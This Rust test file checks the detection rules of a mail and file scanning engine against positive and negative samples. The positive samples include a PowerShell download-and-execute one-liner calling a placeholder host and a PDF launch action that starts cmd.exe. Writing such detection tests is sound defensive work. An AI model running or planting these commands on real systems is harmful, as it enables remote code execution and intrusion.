//! Each bundled rule against a positive and a negative sample, through the
//! whole pipeline (as a file submission), so rule, identification and
//! extraction are tested together.

use crate::util::{engine, finding_names};
use portcullis::samples::*;
use portcullis::{RuleSet, Submission};

/// A file name and its bytes.
type Named = (&'static str, Vec<u8>);

fn findings(name: &str, data: Vec<u8>) -> Vec<String> {
    finding_names(
        &engine()
            .inspect(&Submission::file(Some(name.into()), data))
            .unwrap(),
    )
}

#[test]
fn each_rule_has_a_positive_and_a_negative() {
    let mut vba_lookalike = fake_vba_project();
    // Same structure, but the macro only runs when called: not auto-exec.
    let at = vba_lookalike
        .windows(8)
        .position(|w| w == b"AutoOpen")
        .unwrap();
    vba_lookalike[at..at + 8].copy_from_slice(b"ShowNote");
    let mut eicar_late = b"prefix ".to_vec();
    eicar_late.extend(eicar());
    let table: Vec<(&str, Named, Named)> = vec![
        ("EICAR_Test_File", ("e.com", eicar()), ("e.txt", eicar_late)),
        (
            "Executable_PE",
            ("a.bin", fake_pe()),
            ("mz.txt", b"MZ but not a PE at all, just text".to_vec()),
        ),
        (
            "Executable_ELF",
            ("a", fake_elf()),
            ("b", b"ELF is three letters".to_vec()),
        ),
        (
            "Office_VBA_AutoExec",
            ("vbaProject.bin", fake_vba_project()),
            ("vbaProject.bin", vba_lookalike),
        ),
        (
            "Office_VBA_AutoExec_Source",
            (
                "vbaProject.bin",
                vba_project(&[(
                    "Module1",
                    "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nEnd Sub\r\n",
                )]),
            ),
            (
                "vbaProject.bin",
                vba_project(&[(
                    "Module1",
                    "Attribute VB_Name = \"Module1\"\r\nSub ShowNote()\r\n  ' AutoOpen is only named here\r\nEnd Sub\r\n",
                )]),
            ),
        ),
        (
            "Office_Remote_Template",
            ("offer.docx", docx_with_template(true)),
            ("offer.docx", docx_with_template(false)),
        ),
        (
            "PDF_Launch_Action",
            (
                "a.pdf",
                pdf_with(b"x", Some("/OpenAction<</S/Launch/F(cmd.exe)>>")),
            ),
            (
                "b.pdf",
                pdf_with(b"a file about /Launching a product", None),
            ),
        ),
        (
            "PDF_JavaScript",
            ("a.pdf", pdf_with(b"x", Some(""))),
            ("b.pdf", clean_pdf()),
        ),
        (
            "PDF_OpenAction",
            ("a.pdf", pdf_with(b"x", Some("/OpenAction 7 0 R"))),
            ("b.pdf", clean_pdf()),
        ),
        (
            "PDF_EmbeddedFile",
            ("a.pdf", pdf_with(b"x", None)),
            ("b.pdf", clean_pdf()),
        ),
        (
            "PDF_URI",
            (
                "a.pdf",
                pdf_with(b"x", Some("/A<</S/URI/URI(https://example.invalid/)>>")),
            ),
            ("b.txt", b"see /URI (not a pdf)".to_vec()),
        ),
        (
            "HTML_Smuggling_Blob",
            ("a.html", HTML_SMUGGLING.as_bytes().to_vec()),
            (
                "b.html",
                b"<html><body><script>var b = new Blob(['x']);</script></body></html>".to_vec(),
            ),
        ),
        (
            "Script_Dropper_WSH",
            ("a.js", JS_DROPPER.as_bytes().to_vec()),
            (
                "b.js",
                b"var sh = new ActiveXObject('Scripting.FileSystemObject');".to_vec(),
            ),
        ),
        (
            "Script_PowerShell_Download_Exec",
            (
                "a.ps1",
                b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
                    .to_vec(),
            ),
            ("b.ps1", b"Get-ChildItem | Sort-Object Length".to_vec()),
        ),
        (
            "LNK_Runs_Shell",
            ("a.lnk", fake_lnk()),
            ("b.lnk", fake_lnk()[..76].to_vec()),
        ),
        (
            "LNK_File",
            ("a.lnk", fake_lnk()),
            ("b.txt", b"L\0\0\0 not a shortcut".to_vec()),
        ),
        (
            "Container_ISO_Image",
            ("a.iso", fake_iso()),
            ("b.img", vec![0u8; 0x8800]),
        ),
        (
            "Executable_MachO",
            ("a", {
                let mut m = vec![0xcf, 0xfa, 0xed, 0xfe];
                m.resize(64, 0);
                m
            }),
            ("b", vec![0xca, 0xfe, 0xd0, 0x0d]),
        ),
    ];
    let set = RuleSet::bundled().unwrap();
    assert_eq!(
        table.len(),
        set.rule_count,
        "every bundled rule needs a row here"
    );
    for (rule, (pname, positive), (nname, negative)) in table {
        let hit = findings(pname, positive);
        assert!(
            hit.iter().any(|f| f == rule),
            "{rule} missed its positive sample: {hit:?}"
        );
        let miss = findings(nname, negative);
        assert!(
            !miss.iter().any(|f| f == rule),
            "{rule} hit its negative sample: {miss:?}"
        );
    }
}

#[test]
fn a_rules_directory_is_loaded_and_broken_sets_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("local.yar"),
        "rule Local_Marker { meta: score = 7 condition: true }",
    )
    .unwrap();
    std::fs::create_dir_all(dir.path().join("hashes/block")).unwrap();
    std::fs::write(
        dir.path().join("hashes/block/feed.txt"),
        format!("{}\n", "ab".repeat(32)),
    )
    .unwrap();
    let set = RuleSet::load_dir(dir.path()).unwrap();
    assert_eq!((set.rule_count, set.hashes.len()), (1, 1));

    std::fs::create_dir_all(dir.path().join("sub")).unwrap();
    std::fs::write(
        dir.path().join("sub/bad.yar"),
        "rule ok { condition: true }\nrule bad {\n  condition: $missing\n}\n",
    )
    .unwrap();
    let err = RuleSet::load_dir(dir.path()).unwrap_err().to_string();
    assert!(err.contains("sub/bad.yar:3"), "{err}");
}

#[test]
fn bundled_rules_match_the_rules_directory() {
    let on_disk = RuleSet::load_dir(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("rules")
            .as_path(),
    )
    .unwrap();
    assert_eq!(on_disk.version, RuleSet::bundled().unwrap().version);
}

#[test]
fn a_message_is_scanned_with_its_encoded_bodies_cut_out() {
    // Part headers stay visible to rules on the message; a base64 body is
    // scanned decoded (as its own object), not again as base64 text.
    let rules = RuleSet::from_sources(
        vec![portcullis::rules::Source {
            origin: "t.yar".into(),
            text: r#"
                rule Part_Header { strings: $a = "filename=\"notes.txt\"" condition: $a }
                rule Base64_Text { strings: $b = "aGVsbG8gZnJvbSB0aGUgYXR0YWNobWVudA" condition: $b }
                rule Decoded { strings: $c = "hello from the attachment" condition: $c }
            "#
            .into(),
        }],
        "test",
    )
    .unwrap();
    let engine = portcullis::Engine::new(portcullis::Config::defaults(), rules);
    let msg = message(
        "m",
        "body",
        &[attachment(
            "text/plain",
            "notes.txt",
            b"hello from the attachment",
        )],
    );
    let report = engine.inspect(&Submission::mail(msg)).unwrap();
    let on = |rule: &str| {
        report
            .findings
            .iter()
            .filter(|f| f.kind.name() == rule)
            .map(|f| f.object)
            .collect::<Vec<_>>()
    };
    assert_eq!(on("Part_Header"), vec![0]);
    assert!(on("Base64_Text").is_empty());
    assert_eq!(on("Decoded").len(), 1);
    assert_ne!(on("Decoded")[0], 0);
}

fn engine_with(files: &[(&str, String)], config: portcullis::Config) -> portcullis::Engine {
    let sources = files
        .iter()
        .map(|(origin, text)| portcullis::rules::Source {
            origin: (*origin).into(),
            text: text.clone(),
        })
        .collect();
    portcullis::Engine::new(config, RuleSet::from_sources(sources, "test").unwrap())
}

#[test]
fn allow_listed_objects_are_not_scanned_or_unpacked() {
    let inner = zip(&[("eicar.com", &eicar())]);
    let sha256 = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&inner))
    };
    let engine = engine_with(
        &[
            ("e.yar", include_str!("../rules/eicar.yar").to_string()),
            (
                "hashes/allow/vendor.txt",
                format!("{sha256}  vendor test bundle\n"),
            ),
        ],
        portcullis::Config::defaults(),
    );
    let msg = message(
        "m",
        "b",
        &[attachment("application/zip", "bundle.zip", &inner)],
    );
    let report = engine.inspect(&Submission::mail(msg)).unwrap();
    let bundle = crate::util::object(&report, "bundle.zip");
    assert_eq!(bundle.outcome, portcullis::Outcome::Allowed);
    assert!(
        report
            .objects
            .iter()
            .all(|o| o.name.as_deref() != Some("eicar.com")),
        "not unpacked"
    );
    assert_eq!(
        report.verdict.action,
        portcullis::Action::Accept,
        "{}",
        report.verdict.summary
    );
}

#[test]
fn monitor_rules_report_but_never_enforce() {
    let rule = r#"rule Noisy_New_Rule { meta: mode = "monitor" action = "reject" score = 100 strings: $a = "quarterly" condition: $a }"#;
    let engine = engine_with(
        &[("new.yar", rule.to_string())],
        portcullis::Config::defaults(),
    );
    let report = engine
        .inspect(&Submission::mail(message(
            "q",
            "the quarterly numbers",
            &[],
        )))
        .unwrap();
    let hit = report
        .findings
        .iter()
        .find(|f| f.kind.name() == "Noisy_New_Rule")
        .unwrap();
    assert!(hit.monitor);
    assert_eq!(
        (report.verdict.action, report.verdict.score),
        (portcullis::Action::Accept, 0)
    );
}

#[test]
fn legacy_hashes_off_leaves_md5_and_sha1_out_unless_a_list_needs_them() {
    let config = portcullis::Config {
        legacy_hashes: false,
        ..portcullis::Config::defaults()
    };
    let msg = message(
        "m",
        "b",
        &[attachment("application/pdf", "a.pdf", &clean_pdf())],
    );
    let rule = ("r.yar", "rule R { condition: false }".to_string());
    let report = engine_with(std::slice::from_ref(&rule), config.clone())
        .inspect(&Submission::mail(msg.clone()))
        .unwrap();
    assert!(
        report
            .objects
            .iter()
            .all(|o| o.md5.is_none() && o.sha1.is_none() && o.sha256.is_some())
    );

    let md5_list = ("hashes/block/feed.txt", format!("{}\n", "0".repeat(32)));
    let report = engine_with(&[rule, md5_list], config)
        .inspect(&Submission::mail(msg))
        .unwrap();
    let pdf = crate::util::object(&report, "a.pdf");
    assert!(pdf.md5.is_some() && pdf.sha1.is_none(), "{pdf:?}");
}
